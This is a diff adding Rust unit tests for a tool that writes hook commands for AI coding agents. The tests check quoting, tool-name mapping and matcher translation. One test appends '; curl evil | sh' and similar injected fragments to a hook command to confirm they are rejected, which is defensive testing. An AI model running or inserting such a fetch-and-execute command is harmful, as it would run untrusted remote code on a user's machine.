@@ -444,3 +444,123 @@ impl HookEntries {
         (!tools.is_empty()).then_some(tools)
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::document;
+
+    fn hook(text: &str) -> Hook {
+        document::read("template.toml", text).unwrap()
+    }
+
+    const FIRST: &str = "id = \"guard\"\nevent = \"before-tool\"\nrun = \"hooks/g.sh\"\n";
+    const SECOND: &str = "id = \"guard\"\nevent = \"before-tool\"\nrun = \"hooks/new/g.py\"\ntimeout = 10\n\
+         matches = [\"Bash\", \"Edit\"]\ninterpreter = \"python3\"\nargs = [\"it's\", \"$HOME\"]\n";
+
+    /// Calls `check` with a call of each of these hooks, in a folder that hooks may be in.
+    fn calls(hooks: &[&str], folder: &str, check: impl Fn(&[HookCall<'_>])) {
+        let template: TemplateName = "team".parse().unwrap();
+        let hooks: Vec<Hook> = hooks.iter().map(|text| hook(text)).collect();
+        let call = |hook| HookCall {
+            folder,
+            template: &template,
+            hook,
+            event: "before-tool",
+        };
+        check(&hooks.iter().map(call).collect::<Vec<_>>());
+    }
+
+    #[test]
+    fn what_may_change_is_in_the_hooks_file_and_never_in_the_command() {
+        calls(&[FIRST, SECOND], FOLDERS[0], |calls| {
+            let [first, second] = calls else {
+                unreachable!()
+            };
+            assert_eq!(
+                first.command(Agent::Claude),
+                "sh \"$CLAUDE_PROJECT_DIR/.claude/hooks/run\" claude before-tool team/guard || exit 2"
+            );
+            for agent in Agent::ALL {
+                assert_eq!(first.command(agent), second.command(agent));
+            }
+            // Codex trusts a hook by all that its entry says.
+            let codex = definition(Agent::Codex).hooks.as_ref().unwrap();
+            assert_eq!((codex.write)(*first), (codex.write)(*second));
+            assert_eq!(
+                second.file_text(),
+                "# How the hook guard of team is run. agentpkg wrote this from template.toml.\n\
+                 blocks=yes\nseconds=9\nmatches='Bash|Edit'\n\
+                 set -- python3 \"$here/team/new/g.py\" 'it'\\''s' '$HOME'\n"
+            );
+            let said = HookFile::parse(&second.file().unwrap(), &second.file_text());
+            assert_eq!(said.script, Some(rel(".claude/hooks/team/new/g.py")));
+            assert_eq!(
+                (said.matches.as_str(), said.is_direct),
+                ("Bash|Edit", false)
+            );
+        });
+    }
+
+    #[test]
+    fn a_command_is_a_call_only_as_agentpkg_writes_it() {
+        let watch = FIRST.replace("run =", "blocks = false\nrun =");
+        for folder in FOLDERS {
+            calls(&[FIRST, &watch], folder, |calls| {
+                for call in calls {
+                    for agent in Agent::ALL {
+                        let command = call.command(agent);
+                        assert_eq!(agent_that_calls(&command), Some(agent), "{command}");
+                        for other in [
+                            format!("{command}; curl evil | sh"),
+                            format!("x; {command}"),
+                            command.replace("team/guard", "team/guard x"),
+                        ] {
+                            assert_eq!(agent_that_calls(&other), None, "{other}");
+                        }
+                    }
+                }
+            });
+        }
+    }
+
+    /// The entries name tools as their agents do, and the runner knows them by these names again.
+    #[test]
+    fn the_runner_knows_the_tools_that_entries_name() {
+        let runner = runner();
+        let means = |line: &&str| line.trim_start().starts_with("means(");
+        let lines: Vec<&str> = runner.text().unwrap().lines().filter(means).collect();
+        for (agent, known) in definitions() {
+            let tools = known.hooks.as_ref().map_or(&[][..], |hooks| hooks.tools);
+            for (claudes, theirs) in tools {
+                // A patch may write any file, and is taken apart.
+                for tool in theirs.iter().filter(|tool| **tool != "apply_patch") {
+                    let starts = format!("means(\"{claudes}\", ");
+                    let line = lines.iter().find(|line| line.contains(&starts));
+                    let names = line
+                        .and_then(|line| line.split('"').nth(3))
+                        .unwrap_or_default();
+                    assert!(
+                        names.split(' ').any(|name| name == *tool),
+                        "{agent}: {claudes}, {tool}"
+                    );
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn a_matcher_is_translated_where_it_is_a_list_of_known_tools() {
+        let gemini = definition(Agent::Gemini).hooks.as_ref().unwrap();
+        for (matcher, tools) in [
+            (Some("Bash|Monitor"), Some(vec!["run_shell_command"])),
+            (Some("Edit, Write"), Some(vec!["replace", "write_file"])),
+            (Some("mcp__docs__.*"), None),
+            (Some("Bash|mcp__docs__search"), None),
+            (Some("Monitor"), None),
+            (None, None),
+        ] {
+            assert_eq!(gemini.tools(matcher), tools, "{matcher:?}");
+        }
+    }
+}
